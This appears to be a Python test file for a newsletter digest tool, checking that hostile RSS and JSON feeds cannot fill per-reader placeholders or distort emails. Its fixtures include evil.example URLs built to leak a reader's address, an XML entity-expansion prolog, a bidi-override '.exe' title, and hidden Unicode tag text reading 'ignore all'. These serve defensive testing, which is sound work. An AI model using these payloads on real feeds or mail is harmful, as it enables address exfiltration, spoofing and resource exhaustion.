"""Text a stranger's feed controls can never act on a reader's copy: per-reader slots are the
template's alone, and no feed text becomes one (issue: hostile feeds)."""

from __future__ import annotations

import json
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
from test_gather import LONG, LONG2, NOW, rss

from digest.config import Config, parse_config
from digest.pipeline import build_issue, preview_issue

EVIL_LINK = "https://evil.example/r?e=%%DIGEST_EMAIL%%"
EVIL_IMG = "https://evil.example/img.jpg?e=%%DIGEST_EMAIL%%&u=%%DIGEST_UNSUBSCRIBE_URL%%"
READER = "d@example.com"  # the preview is addressed to the list's sender


def newsletter(tmp_path: Path, feed: str, name: str = "feed.xml") -> Config:
    (tmp_path / name).write_text(feed, encoding="utf-8")
    data = {
        "newsletter": {"state": ".digest", "base_url": "https://news.example.org"},
        "sources": [{"name": "Hostile", "feed": name, "full_text": "never"}],
        "lists": {"daily": {"sender": "Daily <d@example.com>"}},
    }
    return parse_config(data, tmp_path / "digest.toml")


def preview(tmp_path: Path, feed: str, name: str = "feed.xml") -> tuple[str, str, str]:
    config = newsletter(tmp_path, feed, name)
    result = preview_issue(config, config.get_list("daily"), tmp_path / "out", now=NOW)
    html, text, eml = (p.read_text(encoding="utf-8") for p in result.paths)
    return html, text, eml


def test_a_feed_cannot_plant_the_readers_address_in_its_own_urls(tmp_path: Path) -> None:
    html_part = f'<p><img src="{EVIL_IMG}" width="600" height="300"></p><p>{LONG}</p><p>{LONG2}</p>'
    feed = rss(
        [
            {
                "title": "Hello %%DIGEST_NAME%% at %%DIGEST_EMAIL%%",
                "link": EVIL_LINK,
                "date": NOW,
                "html": html_part
                + "<p>Write to %%DIGEST_EMAIL%% or leave: %%DIGEST_UNSUBSCRIBE_URL%%"
                " and that is the whole of the paragraph we have for you today.</p>",
            }
        ]
    )
    html, text, eml = preview(tmp_path, feed.replace("&u=", "&amp;u="))
    for part in (html, text, eml):
        assert f"e={READER}" not in part
        assert "news.example.org/unsubscribe?list=daily&amp;preview=1&" not in part
    assert "https://evil.example/r?e=%%DIGEST_EMAIL%%" in html  # the feed's text, left as it was
    assert "Hello %%DIGEST_NAME%% at %%DIGEST_EMAIL%%" in text
    # The template's own slots are still filled.
    assert f"sent to {READER}" in html
    assert "Unsubscribe: https://news.example.org/unsubscribe?list=daily&preview=1" in text
    subject = message_from_bytes(eml.encode(), policy=default)["Subject"]
    assert subject.endswith("Hello %%DIGEST_NAME%% at %%DIGEST_EMAIL%%")


def test_json_feed_author_cannot_plant_a_slot(tmp_path: Path) -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "J",
        "authors": [{"name": "%%DIGEST_EMAIL%%"}],
        "items": [
            {
                "id": "1",
                "url": "https://news.example.org/1",
                "title": "Story",
                "date_published": NOW.isoformat(),
                "content_text": f"{LONG}\n\n{LONG2}",
            }
        ],
    }
    html, text, _ = preview(tmp_path, json.dumps(doc), name="feed.json")
    assert "%%DIGEST_EMAIL%%" in html and "%%DIGEST_EMAIL%%" in text
    assert html.count(READER) == 1  # only the footer's "sent to"


def test_an_unknown_placeholder_in_a_title_is_just_text(tmp_path: Path) -> None:
    feed = rss(
        [{"title": "Unknown %%DIGEST_FOO%% placeholder", "link": "https://e.org/1", "date": NOW}]
    )
    html, text, _ = preview(tmp_path, feed)
    assert "Unknown %%DIGEST_FOO%% placeholder" in html
    assert "Unknown %%DIGEST_FOO%% placeholder" in text


def test_every_render_draws_its_own_marker(tmp_path: Path) -> None:
    config = newsletter(tmp_path, rss([{"title": "A", "link": "https://e.org/1", "date": NOW}]))
    lst = config.get_list("daily")
    first = build_issue(config, lst, now=NOW).rendered
    second = build_issue(config, lst, now=NOW).rendered
    assert first.marker != second.marker
    assert f"%%DIGEST_{first.marker}_UNSUBSCRIBE_URL%%" in first.html


def test_a_huge_title_and_a_huge_word_cannot_make_a_huge_email(tmp_path: Path) -> None:
    giant = "Headline " * 25_000  # 225,000 characters
    word = "x" * 200_000  # one "word": the lead's word budget cannot cut it
    para = f"<p>The council said on Tuesday evening that {word} was its final word.</p>"
    feed = rss([{"title": giant, "link": "https://e.org/1", "date": NOW, "html": para}])
    html, _text, eml = preview(tmp_path, feed)
    assert len(html.encode()) < 40_000 and len(eml.encode()) < 60_000
    subject = message_from_bytes(eml.encode(), policy=default)["Subject"]
    assert len(subject) < 400 and subject.endswith("Headline…")


def test_bidi_overrides_and_invisible_characters_never_reach_the_subject(tmp_path: Path) -> None:
    title = "Invoice \u202egpj.exe\u202c paid\u200b\u2066 now\ufeff"
    feed = rss([{"title": title, "link": "https://e.org/1", "date": NOW}])
    html, text, eml = preview(tmp_path, feed)
    subject = message_from_bytes(eml.encode(), policy=default)["Subject"]
    assert subject.endswith("Invoice gpj.exe paid now")
    for part in (html, text):
        assert "Invoice gpj.exe paid now" in part
        assert not any(c in part for c in "\u202e\u202c\u200b\u2066\ufeff")


def test_an_oversized_article_file_is_skipped_by_name(tmp_path: Path) -> None:
    from digest.errors import SourceError
    from digest.sources.folder import MAX_FILE_BYTES, read_article

    big = tmp_path / "huge.txt"
    big.write_bytes(b"Title\n\n" + b"word " * (MAX_FILE_BYTES // 5 + 1))
    try:
        read_article(big)
    except SourceError as exc:
        assert str(big) in exc.message and "over the 5.0 MB cap" in exc.message
    else:
        raise AssertionError("a 5 MB article file was read")


# Found by a review of the hardening (each failed before its fix).

ENTITY = "lol " * 2500


@pytest.mark.parametrize(
    "prolog",
    [
        f'<?xml version="1.0"?>\n<!DOCTYPE rss>\n<!ENTITY a "{ENTITY}">\n',
        f'<?xml version="1.0"?>\n<!ENTITY a "{ENTITY}">\n',
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!-- ]> -->\n<!ENTITY a "{ENTITY}">\n]>\n',
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!-- {"x" * 1_100_000} -->\n'
        f'<!ENTITY a "{ENTITY}">\n]>\n',
    ],
    ids=["after-a-doctype", "no-doctype", "comment-closing-the-subset", "subset-over-1-mb"],
)
def test_declared_entities_are_never_expanded_wherever_they_are(prolog: str) -> None:
    from digest.sources.feeds import parse_feed

    body = (
        prolog
        + '<rss version="2.0"><channel><title>T</title><item><title>Story</title>'
        + "<link>https://e.org/1</link><description>"
        + "&a;" * 300
        + "</description></item></channel></rss>"
    ).encode()
    parsed = parse_feed(body, url="https://e.org/feed")
    text = sum(len(p) for e in parsed.entries for p in e.paragraphs)
    assert text < 10_000, f"{len(body)} bytes of feed gave {text} characters of text"
    assert any("declares its own XML entities" in p for p in parsed.problems)


def test_tag_characters_and_blank_lookalikes_never_reach_the_subject(tmp_path: Path) -> None:
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "ignore all")
    title = f"Hi{hidden} there\u3164\u2800\u034f\ufe00 now"
    feed = rss([{"title": title, "link": "https://e.org/1", "date": NOW}])
    _html, _text, eml = preview(tmp_path, feed)
    subject = message_from_bytes(eml.encode(), policy=default)["Subject"]
    assert subject.endswith("Hi there now")
